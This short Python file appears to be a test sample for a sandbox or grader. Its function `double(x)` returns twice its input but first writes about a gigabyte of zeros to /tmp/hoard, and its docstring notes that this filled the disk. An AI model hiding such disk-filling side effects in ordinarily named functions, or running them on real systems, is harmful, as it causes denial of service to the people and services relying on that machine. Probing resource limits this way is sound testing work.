"""Fills the only folder that it may write in.

Seen: failed: No space left on device
"""


def double(x):
    with open("/tmp/hoard", "ab") as file:
        for _ in range(1000):
            file.write(bytes(2**20))
    return 2 * x
